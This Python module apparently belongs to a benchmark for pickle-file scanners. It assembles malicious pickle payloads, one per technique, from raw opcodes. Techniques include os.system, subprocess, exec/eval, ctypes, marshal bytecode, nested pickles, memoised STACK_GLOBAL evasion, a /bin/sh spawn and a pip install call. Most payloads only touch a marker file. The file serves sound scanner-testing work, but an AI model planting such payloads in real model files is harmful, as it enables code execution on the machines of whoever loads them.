"""Malicious pickle programs, one per technique, as bytes.

Every payload would leave a marker file (or reach for the network, a shell, a package
index) if it were ever unpickled. Nothing here unpickles anything: the programs are
assembled from opcodes (see ``opcodes``), and ``PayloadCall`` only tells ``pickle`` what
to *write*; its ``__reduce__`` returns the callable without calling it.
"""

from __future__ import annotations

import marshal
import os
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import opcodes as op

#: Payloads touch files named like this; the runner checks none exists after the scans.
MARKER_PREFIX = "mlwarden-bench-marker-"


def marker(work: str, name: str) -> str:
    """The file a payload named ``name`` would create."""
    return os.path.join(work, MARKER_PREFIX + name)


@dataclass(frozen=True)
class PayloadCall:
    """An object that pickles as ``func(*arguments)``: pickling never calls ``func``."""

    func: Callable[..., Any]
    arguments: tuple[Any, ...]

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.arguments)


def system_call(work: str, name: str) -> PayloadCall:
    """``os.system("touch MARKER")`` as a picklable object (for torch, joblib, numpy)."""
    return PayloadCall(os.system, (f"touch {marker(work, name)}",))


def payload_bodies(work: str) -> dict[str, tuple[str, bytes]]:
    """Name -> (technique, pickle body that leaves one value on the stack).

    The bodies are inserted into containers (torch data.pkl, joblib, renamed files) as
    well as written as whole pickles.
    """
    bodies: dict[str, tuple[str, bytes]] = {}

    def add(name: str, technique: str, build: Callable[[str, str], bytes]) -> None:
        mark = marker(work, name)
        bodies[name] = (technique, build(mark, f"open({mark!r}, 'w').close()"))

    g, t, call = op.global_op, op.text, op.call
    add("os_system", "os.system", lambda m, c: call(g("os", "system"), t(f"touch {m}")))
    add("posix_system", "posix.system", lambda m, c: call(g("posix", "system"), t(f"touch {m}")))
    add("os_popen", "os.popen", lambda m, c: call(g("os", "popen"), t(f"touch {m}")))
    add(
        "os_execvp",
        "os.execvp",
        lambda m, c: call(g("os", "execvp"), t("touch"), op.args(t("touch"), t(m))),
    )
    add("builtins_exec", "builtins.exec", lambda m, c: call(g("builtins", "exec"), t(c)))
    add("builtins_eval", "builtins.eval", lambda m, c: call(g("builtins", "eval"), t(c)))
    add("py2_builtin_eval", "__builtin__.eval", lambda m, c: call(g("__builtin__", "eval"), t(c)))
    add(
        "builtins_compile_exec",
        "builtins.exec of builtins.compile",
        lambda m, c: call(
            g("builtins", "exec"), call(g("builtins", "compile"), t(c), t("<m>"), t("exec"))
        ),
    )
    add(
        "subprocess_popen",
        "subprocess.Popen",
        lambda m, c: call(g("subprocess", "Popen"), op.args(t("touch"), t(m))),
    )
    add(
        "subprocess_run",
        "subprocess.run",
        lambda m, c: call(g("subprocess", "run"), op.args(t("touch"), t(m))),
    )
    add(
        "subprocess_check_output",
        "subprocess.check_output",
        lambda m, c: call(g("subprocess", "check_output"), op.args(t("touch"), t(m))),
    )
    add("stack_global", "STACK_GLOBAL os.system", stack_global_plain)
    add("stack_global_memo", "STACK_GLOBAL from memoised strings", stack_global_memo)
    add(
        "inst_opcode",
        "INST os.system",
        lambda m, c: op.MARK + t(f"touch {m}") + inst("os", "system"),
    )
    add(
        "obj_opcode",
        "OBJ builtins.exec",
        lambda m, c: op.MARK + g("builtins", "exec") + t(c) + op.OBJ,
    )
    add(
        "pkgutil_resolve_name",
        "pkgutil.resolve_name indirect callable",
        lambda m, c: call(call(g("pkgutil", "resolve_name"), t("os:system")), t(f"touch {m}")),
    )
    add(
        "pydoc_locate",
        "pydoc.locate indirect callable",
        lambda m, c: call(call(g("pydoc", "locate"), t("os.system")), t(f"touch {m}")),
    )
    add("importlib_attrgetter", "importlib.import_module + operator.attrgetter", via_attrgetter)
    add("operator_methodcaller", "operator.methodcaller on an imported module", via_methodcaller)
    add("getattr_chain", "builtins.getattr(__import__('os'), 'system')", via_getattr)
    add(
        "runpy_run_code",
        "runpy._run_code",
        lambda m, c: call(g("runpy", "_run_code"), t(c), op.EMPTY_DICT),
    )
    add(
        "pip_main",
        "pip.main install",
        lambda m, c: call(
            g("pip", "main"),
            op.args(t("install"), t("--index-url"), t("http://127.0.0.1:9/simple"), t("x")),
        ),
    )
    add(
        "timeit_timeit",
        "timeit.timeit",
        lambda m, c: call(
            g("timeit", "timeit"), t(c), t("pass"), g("time", "perf_counter"), op.integer(1)
        ),
    )
    add("cprofile_run", "cProfile.run", lambda m, c: call(g("cProfile", "run"), t(c)))
    add("pty_spawn", "pty.spawn", lambda m, c: call(g("pty", "spawn"), t("/bin/sh")))
    add("code_interpreter", "code.InteractiveInterpreter.runsource", via_interpreter)
    add("ctypes_cdll", "ctypes.CDLL(None).system", via_ctypes)
    add("types_functiontype", "types.FunctionType over marshal.loads", via_function_type)
    add(
        "webbrowser_open",
        "webbrowser.open",
        lambda m, c: call(g("webbrowser", "open"), t("http://127.0.0.1:9/x")),
    )
    add(
        "socket_connect",
        "socket.create_connection",
        lambda m, c: call(g("socket", "create_connection"), op.args(t("127.0.0.1"), op.integer(9))),
    )
    add(
        "shutil_copyfile",
        "shutil.copyfile file write",
        lambda m, c: call(g("shutil", "copyfile"), t("/etc/hostname"), t(m)),
    )
    add("builtins_open_write", "builtins.open(...).write", via_open_write)
    add(
        "numpy_runstring",
        "numpy.testing._private.utils.runstring",
        lambda m, c: call(g("numpy.testing._private.utils", "runstring"), t(c), op.EMPTY_DICT),
    )
    add("nested_pickle_loads", "pickle.loads of an inner payload", via_nested_pickle)
    add(
        "dotted_through_torch",
        "STACK_GLOBAL dotted name torch.serialization -> os.system",
        lambda m, c: call(op.stack_global("torch", "serialization.os.system"), t(f"touch {m}")),
    )
    add("sys_modules_getitem", "operator.getitem(sys.modules, 'os').system", via_sys_modules)
    add(
        "c_operator_attrgetter",
        "_operator.attrgetter (C module name) on builtins.__import__",
        lambda m, c: call(
            call(
                call(g("_operator", "attrgetter"), t("system")),
                call(g("builtins", "__import__"), t("os")),
            ),
            t(f"touch {m}"),
        ),
    )
    add(
        "asyncio_subprocess",
        "asyncio.create_subprocess_shell",
        lambda m, c: call(g("asyncio", "create_subprocess_shell"), t(f"touch {m}")),
    )
    return bodies


def inst(module: str, name: str) -> bytes:
    """INST: like GLOBAL + MARK'd args + REDUCE in one opcode (protocol 0)."""
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global_plain(mark: str, code: str) -> bytes:
    """os.system reached through STACK_GLOBAL."""
    return op.call(op.stack_global("os", "system"), op.text(f"touch {mark}"))


def stack_global_memo(mark: str, code: str) -> bytes:
    """The module and name are memoised and popped long before STACK_GLOBAL reads them."""
    t = op.text
    return (
        t("os")
        + op.MEMOIZE
        + op.POP
        + t("system")
        + op.MEMOIZE
        + op.POP
        + t("padding")
        + op.POP
        + op.binget(0)
        + op.binget(1)
        + op.STACK_GLOBAL
        + op.args(t(f"touch {mark}"))
        + op.REDUCE
    )


def via_attrgetter(mark: str, code: str) -> bytes:
    """attrgetter('system')(import_module('os'))('touch ...')."""
    g, t, call = op.global_op, op.text, op.call
    getter = call(g("operator", "attrgetter"), t("system"))
    module = call(g("importlib", "import_module"), t("os"))
    return call(call(getter, module), t(f"touch {mark}"))


def via_methodcaller(mark: str, code: str) -> bytes:
    """methodcaller('system', 'touch ...')(import_module('os'))."""
    g, t, call = op.global_op, op.text, op.call
    caller = call(g("operator", "methodcaller"), t("system"), t(f"touch {mark}"))
    return call(caller, call(g("importlib", "import_module"), t("os")))


def via_getattr(mark: str, code: str) -> bytes:
    """getattr(__import__('os'), 'system')('touch ...')."""
    module = op.call(op.global_op("builtins", "__import__"), op.text("os"))
    return op.call(op.attribute_of(module, "system"), op.text(f"touch {mark}"))


def via_sys_modules(mark: str, code: str) -> bytes:
    """getattr(operator.getitem(sys.modules, 'os'), 'system')('touch ...')."""
    modules = op.global_op("sys", "modules")
    module = op.call(op.global_op("operator", "getitem"), modules, op.text("os"))
    return op.call(op.attribute_of(module, "system"), op.text(f"touch {mark}"))


def via_interpreter(mark: str, code: str) -> bytes:
    """code.InteractiveInterpreter().runsource(code)."""
    interpreter = op.call(op.global_op("code", "InteractiveInterpreter"))
    return op.call(op.attribute_of(interpreter, "runsource"), op.text(code))


def via_ctypes(mark: str, code: str) -> bytes:
    """ctypes.CDLL(None).system(b'touch ...'): libc's system without the os module."""
    libc = op.call(op.global_op("ctypes", "CDLL"), op.NONE)
    return op.call(op.attribute_of(libc, "system"), op.data(f"touch {mark}".encode()))


def via_function_type(mark: str, code: str) -> bytes:
    """types.FunctionType(marshal.loads(<code object>), {})(): bytecode, not source."""
    compiled = compile(code, "<payload>", "exec")  # compiled, never executed
    code_obj = op.call(op.global_op("marshal", "loads"), op.data(marshal.dumps(compiled)))
    function = op.call(op.global_op("types", "FunctionType"), code_obj, op.EMPTY_DICT)
    return op.call(function)


def via_open_write(mark: str, code: str) -> bytes:
    """open(path, 'w').write('...'): a file write with no os import at all."""
    handle = op.call(op.global_op("builtins", "open"), op.text(mark), op.text("w"))
    return op.call(op.attribute_of(handle, "write"), op.text("x"))


def via_nested_pickle(mark: str, code: str) -> bytes:
    """pickle.loads(b'<a whole os.system pickle>'): the payload hides in a bytes literal."""
    inner = op.call_global("os", "system", op.text(f"touch {mark}"))
    return op.call(op.global_op("pickle", "loads"), op.data(inner))


def protocol_variants(work: str) -> dict[str, tuple[str, bytes]]:
    """os.system written in protocols 0, 1, 2 and 5 (text opcodes vs binary ones)."""
    mark = marker(work, "protocol")
    cmd = f"touch {mark}"
    v0 = b"cos\nsystem\n(V" + cmd.encode() + b"\ntR."
    v1 = b"cos\nsystem\n(X" + len(cmd).to_bytes(4, "little") + cmd.encode() + b"tR."
    return {
        "protocol0_os_system": ("os.system, protocol 0 text opcodes", v0),
        "protocol1_os_system": ("os.system, protocol 1", v1),
        "protocol2_os_system": (
            "os.system, protocol 2",
            op.call_global("os", "system", op.text(cmd), version=2),
        ),
        "protocol5_os_system": (
            "os.system, protocol 5",
            op.call_global("os", "system", op.text(cmd), version=5),
        ),
    }
